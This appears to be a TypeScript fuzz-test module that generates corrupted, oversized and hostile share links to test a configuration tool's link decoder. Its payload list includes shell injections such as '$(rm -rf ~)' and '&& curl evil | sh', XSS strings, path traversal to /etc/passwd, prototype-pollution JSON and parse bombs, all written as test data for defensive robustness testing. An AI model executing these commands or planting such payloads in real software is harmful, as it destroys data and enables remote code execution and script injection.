import type { Answers } from '../answers.ts'
import { generator, pairwise } from '../questions/pairwise.ts'
import { keys } from '../questions/index.ts'
import { encodeLink, encodeText } from './link.ts'

/** Texts that would do harm in a shell, in YAML, in HTML, or to a reader's eye. */
export const payloads: readonly string[] = [
  '$(rm -rf ~)', '`id`', '; reboot', '&& curl evil | sh', "'; exit #", '"; exit #', '\\"$(id)\\"', '\nEOF\nrm -rf ~\n', 'a\r\nb', '${IFS}', '~root', '*', '-n kube-system', '--all',
  'a: b', '- a', '&anchor', '*anchor', '!!js/function', '{{ .Values }}', '"quoted"', "'quoted'", '# comment', 'yes', '1e3', '0x10', '---', '...', '\t', 'null', '|', '>',
  '<script>alert(1)</script>', '<img src=x onerror=alert(1)>', 'javascript:alert(1)', '</textarea>', '&lt;',
  '\u202egnp.exe', 'a\u200bb', '\u2066a\u2069', '\ufeffelastic', 'еlastic', 'ｅlastic', '\ud800', '\u0000', '\u001b[31m', 'İ', 'ß',
  '../../etc/passwd', 'kube-system', '__proto__', 'constructor', 'toString', 'A'.repeat(5000), '-'.repeat(63), 'a.'.repeat(200), '9'.repeat(400), '',
]

const strangers: readonly unknown[] = [null, true, 0, -1, 1.5, Number.POSITIVE_INFINITY, Number.MAX_SAFE_INTEGER, [], [[]], [null], {}, { length: 3 }, { toString: 1 }, ...payloads]

/** Links that nobody wrote with good intent: bits changed, ends cut, bombs, keys of prototypes, wrong types, payloads. */
export function hostileLinks(seed: number, count: number): readonly string[] {
  const random = generator(seed)
  const pick = <T>(list: readonly T[]): T => list[Math.floor(random() * list.length)]!
  const rows = pairwise()
  const makers: readonly (() => string)[] = [
    () => changeSigns(encodeLink(pick(rows)), 1 + Math.floor(random() * 4), random),
    () => cut(encodeLink(pick(rows)), random),
    () => encodeText(flipBits(JSON.stringify(pick(rows)), random), 1),
    () => encodeText(JSON.stringify({ ...pick(rows), [pick(keys)]: pick(strangers) }), pick([1, 1, 2, 9])),
    () => encodeText(JSON.stringify(Object.fromEntries(keys.map((key) => [key, pick(strangers)]))), 1),
    () => encodeText(JSON.stringify({ ...pick(rows), ...inLists(pick(payloads), pick(strangers)) }), 1),
    () => encodeText(`{"__proto__":{"name":${JSON.stringify(pick(payloads))},"polluted":true},"constructor":{"prototype":{"polluted":true}},"nodeSets":[{"__proto__":{"count":3},"name":"a"}],"hasOwnProperty":1,"name":${JSON.stringify(pick(strangers))}}`, 1),
    () => encodeText(pick(['', 'null', '[]', '"text"', '{', '{}', '[[[[', '{"a":'.repeat(2000), '['.repeat(50_000), `${'[0,'.repeat(20_000)}0`, `{"name":"${'a'.repeat(60_000)}"}`, JSON.stringify(Object.fromEntries(Array.from({ length: 4_000 }, (_, index) => [`key${index}`, index])))]), 1),
    () => encodeText(' '.repeat(Math.floor(random() * 400_000)), 1),
    () => encodeText(`{"nodeSets":[${Array.from({ length: 200 }, () => JSON.stringify({ name: pick(payloads), count: pick(strangers), roles: Array(40).fill(pick(payloads)) })).join(',')}]}`.slice(0, 65_000), 1),
    () => noise(Math.floor(random() * 20_000), random),
    () => `${pick(['', '#', '?', '1', '#1', '0', '10', 'https://example.org/#1', '#1#1', '%31'])}${pick(payloads)}${noise(40, random)}`,
  ]
  return Array.from({ length: count }, (_, index) => makers[index % makers.length]!())
}

const inLists = (payload: string, stranger: unknown): { readonly [K in keyof Answers]?: unknown } => ({
  nodeSets: [{ name: payload, count: 3 }, { name: 'a', count: stranger, cpu: payload, memory: payload, storage: payload, storageClass: payload, roles: [payload], [payload]: 1 }, { name: 'b', count: 1, storageClass: payload }],
  plugins: [payload, 'analysis-icu', stranger],
  features: [payload, 'saml', stranger],
})

const signs = 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_'
const noise = (length: number, random: () => number): string => Array.from({ length }, () => signs[Math.floor(random() * signs.length)]).join('')

function changeSigns(link: string, times: number, random: () => number): string {
  const letters = [...link]
  for (let time = 0; time < times; time += 1) letters[Math.floor(random() * letters.length)] = noise(1, random)
  return letters.join('')
}

const cut = (link: string, random: () => number): string => link.slice(random() < 0.3 ? Math.floor(random() * 3) : 0, Math.floor(random() * link.length))

const flipBits = (text: string, random: () => number): string =>
  [...text].map((letter) => (random() < 0.01 ? String.fromCharCode(letter.charCodeAt(0) ^ (1 << Math.floor(random() * 7))) : letter)).join('')
